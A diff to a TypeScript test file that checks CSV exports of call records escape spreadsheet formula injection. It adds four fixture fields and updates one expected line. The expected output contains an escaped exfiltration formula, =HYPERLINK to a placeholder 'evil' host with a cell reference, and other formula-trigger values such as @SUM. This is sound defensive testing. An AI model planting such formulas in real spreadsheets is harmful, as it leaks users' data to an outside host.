@@ -22,6 +22,10 @@ const row: CallRow = {
   employee_name: null,
   note: '\tnote',
   extracted_data: { units: -3, urgency: '+routine' },
+  direction: 'inbound',
+  outbound_call_id: null,
+  experiment_id: null,
+  variant: null,
   is_purged: false,
   purged_at: null,
   deleted_at: null,
@@ -60,7 +64,7 @@ describe('CSV cells of the calls export', () => {
     ];
     const line = csvLine(row, fields);
     expect(line).toContain(`,"'=HYPERLINK(""http://evil/?""&A1)",'-1+2,'+4930123456,42,`);
-    expect(line).toContain(",'@SUM(A1:A9),,,'\tnote,false,,'+routine,-3,");
+    expect(line).toContain(",'@SUM(A1:A9),,,'\tnote,false,,inbound,,,,'+routine,-3,");
     expect(csvLine({ ...row, phone_number: '0301234567' }, fields)).toContain(",'0301234567,");
     expect(csvLine({ ...row, phone_number: null }, fields)).toContain("'-1+2,,42,");
   });
